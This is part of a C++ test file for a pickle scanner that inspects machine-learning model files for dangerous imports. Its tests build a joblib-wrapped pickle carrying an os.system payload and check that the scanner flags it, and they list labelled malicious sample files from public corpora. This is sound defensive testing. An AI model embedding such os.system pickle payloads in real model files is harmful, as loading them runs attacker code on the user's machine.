      "\xff\x4b\x00\x74\x94\x62\x4b\x00\x86\x94\x68\x39\x68\x10\x8c\x02\x66\x38\x94\x89\x88\x87\x94"
      "\x52"
      "\x94\x28\x4b\x03\x68\x14\x4e\x4e\x4e\x4a\xff\xff\xff\xff\x4a\xff\xff\xff\xff\x4b\x00\x74\x94"
      "\x62"
      "\x4b\x04\x86\x94\x75\x4b\x0c\x4b\x01\x4b\x10\x74\x94\x62\x68\x16\x88\x68\x17\x4b\x10\x75\x62"
      "\x08"
      "\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
      "\x00"
      "\x00\x00\x00\x00\x00\x00\x00\x00\x75\x2e",
      1018);
  return kBytes;
}

TEST(PickleVm, JoblibRawArraysAreSkipped) {
  const auto& data = joblib_dump();
  Options plain;
  const auto as_pickle = run(as_bytes(data), 0, policy(), plain);
  EXPECT_TRUE(as_pickle.saw_joblib_wrapper);
  EXPECT_FALSE(as_pickle.reached_stop);  // pickle.load chokes on the array bytes
  Options joblib;
  joblib.joblib_arrays = true;
  const auto r = run(as_bytes(data), 0, policy(), joblib);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_EQ(r.end, data.size());
  for (const auto& i : r.imports) EXPECT_EQ(i.verdict.verdict, ImportVerdict::safe) << i.name;
  const auto report = scan(data);
  EXPECT_EQ(report.format, "joblib");
  EXPECT_TRUE(report.findings.empty()) << report.findings.front().message;
}

TEST(PickleVm, JoblibObjectArrayPayloadIsFound) {
  // A wrapper with an object dtype: the whole pickle that follows is scanned too.
  P p;
  p.proto(4)
      .global("joblib.numpy_pickle", "NumpyArrayWrapper")
      .op(')')
      .op('\x81')
      .empty_dict()
      .mark()
      .sbu("shape")
      .binint1(1)
      .tuple1()
      .sbu("dtype")
      .global("numpy", "dtype")
      .sbu("O8")
      .op('\x89')
      .op('\x88')
      .op('\x87')
      .reduce()
      .sbu("order")
      .sbu("C")
      .op('u')
      .build();
  p.raw(os_system_p4().b);
  p.stop();
  Options joblib;
  joblib.joblib_arrays = true;
  const auto r = vm(p, joblib);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
}

// --- limits and robustness -------------------------------------------------------------------

TEST(PickleVm, ValueLimitStopsWithUnscannable) {
  P p;
  p.proto(4).empty_list().mark();
  for (int i = 0; i < 200; ++i) p.op('N');
  p.op('e').stop();
  Options small;
  small.max_values = 50;
  const auto r = vm(p, small);
  EXPECT_FALSE(r.reached_stop);
  EXPECT_TRUE(has_anomaly(r, "unscannable"));
}

TEST(PickleVm, SelfReferencingListIsFine) {
  P p;
  p.proto(2).empty_list().binput(0).binget(0).op('a').binget(0).op('a').stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop);
  EXPECT_EQ(r.result_repr.substr(0, 2), "[[");
}

TEST(PickleVm, HugeBinbytesIsAViewNotACopy) {
  // BINBYTES8 claiming 4 GiB: truncated, instantly, no allocation.
  P p;
  p.proto(4).op('\x8e').raw(le(4ULL << 30, 8)).raw("abc");
  const auto r = vm(p);
  EXPECT_FALSE(r.reached_stop);
  ASSERT_TRUE(r.error.has_value());
  EXPECT_NE(r.error->message.find("truncated"), std::string::npos);
}

TEST(PickleVm, RepeatedBuilderCallsHitTheStringBudget) {
  // One 1 MiB string encoded over and over through GET: the decoded budget stops it.
  P p;
  p.proto(4).bu(std::string(1 << 20, 'a')).binput(0).pop();
  for (int i = 0; i < 400; ++i) {
    p.global("_codecs", "encode").binget(0).sbu("latin1").tuple2().reduce().pop();
  }
  p.op('N').stop();
  const auto r = vm(p);
  EXPECT_FALSE(r.reached_stop);
  EXPECT_TRUE(has_anomaly(r, "unscannable"));
}

std::vector<std::uint8_t> read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

// Every file of the shared corpora, at every offset a pickle could start after a STOP, through
// the VM: nothing may crash (the sanitizer builds turn UB into failures).
TEST(PickleVm, SharedCorporaNeverCrash) {
  const std::filesystem::path root = std::filesystem::path(MLSC_SHARED_DIR) / "corpora";
  if (!std::filesystem::exists(root)) GTEST_SKIP() << "no shared corpora";
  std::size_t files = 0;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(root)) {
    if (!entry.is_regular_file() || entry.file_size() > (8U << 20)) continue;
    const auto bytes = read_file(entry.path());
    const ByteView data(bytes.data(), bytes.size());
    for (const bool joblib : {false, true}) {
      Options o;
      o.joblib_arrays = joblib;
      std::uint64_t pos = 0;
      for (int i = 0; i < 8 && pos < data.size(); ++i) {
        const auto r = run(data, pos, policy(), o);
        if (!r.reached_stop) break;
        ASSERT_GT(r.end, pos);
        pos = r.end;
      }
    }
    (void)looks_like_pickle(data);
    ++files;
  }
  EXPECT_GT(files, 100U);
}

// The corpora's pickles, labelled by their upstream projects: malicious ones reach high or
// critical, benign and malformed ones do not.
TEST(PickleScanner, CorpusPicklesMatchTheirLabels) {
  const std::filesystem::path root = std::filesystem::path(MLSC_SHARED_DIR) / "corpora";
  if (!std::filesystem::exists(root)) GTEST_SKIP() << "no shared corpora";
  struct Case {
    const char* file;
    bool malicious;
  };
  const std::vector<Case> cases = {
      {"picklescan/files/data/benign0_v0.pkl", false},
      {"picklescan/files/data/benign0_v3.pkl", false},
      {"picklescan/files/data/benign0_v4.pkl", false},
      {"picklescan/files/data/not_a_pickle.bin", false},
      {"picklescan/files/data/bad_pytorch.pt", false},
      {"picklescan/files/data/broken_model.pkl", true},
      {"picklescan/files/data/malicious-invalid-bytes.pkl", true},
      {"picklescan/files/data/malicious0.pkl", true},
      {"picklescan/files/data/malicious10.pkl", true},
      {"picklescan/files/data/malicious12.pkl", true},
      {"picklescan/files/data/malicious13a.pkl", true},
      {"picklescan/files/data/malicious15a.pkl", true},
      {"picklescan/files/data/malicious15b.pkl", true},
      {"picklescan/files/data/malicious19.pkl", true},
      {"picklescan/files/data/malicious6.pkl", true},
      {"picklescan/files/data/sys_module_override_sploit.pkl", true},
      {"picklescan/files/data2/keyerror-exploit.pkl", true},
      {"picklescan/files/data2/type-confusion-exploit.pkl", true},
      {"picklescan/files/data2/malicious23.pkl", true},
      {"picklescan/files/data2/GHSA-jgw4-cr84-mqxg.bin", true},
      {"picklescan/files/data2/cloudpickle_codeinjection.pkl", true},
      {"modelaudit/files/pickles/nt_alias_attack.pkl", true},
      {"modelaudit/files/pickles/multiple_stream_attack.pkl", true},
      {"modelaudit/files/samples/pickles/decode_exec_chain.pkl", true},
      {"modelaudit/files/samples/pickles/malicious_model_realistic.pkl", true},
      {"modelaudit/files/samples/pickles/nested_pickle_hex.pkl", true},
      {"modelaudit/files/samples/pickles/nested_pickle_multistage.pkl", true},
      {"modelaudit/files/samples/pickles/dill_func.pkl", true},
      {"modelaudit/files/samples/pickles/safe_model_with_binary.pkl", false},
      {"modelaudit/files/samples/pickles/safe_model_with_encoding.pkl", false},
      {"modelaudit/files/samples/pickles/safe_model_with_tokens.pkl", false},
      {"modelaudit/files/samples/pickles/safe_nested_structure.pkl", false},
      {"modelaudit/files/samples/pickles/safe_large_model.pkl", false},
      {"modelaudit/files/scenarios/license_scenarios/agpl_component/agpl_model.pkl", false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.file);
    const auto bytes = read_file(root / c.file);
    ASSERT_FALSE(bytes.empty());
    const auto r = scan_bytes(c.file, {bytes.data(), bytes.size()}, ScanOptions{});
    if (c.malicious) {
      EXPECT_GE(worst(r), Severity::high);
    } else {
      EXPECT_LT(worst(r), Severity::high) << (r.findings.empty() ? "" : r.findings[0].message);
    }
  }
}

}  // namespace
}  // namespace mlsc::scan::pickle
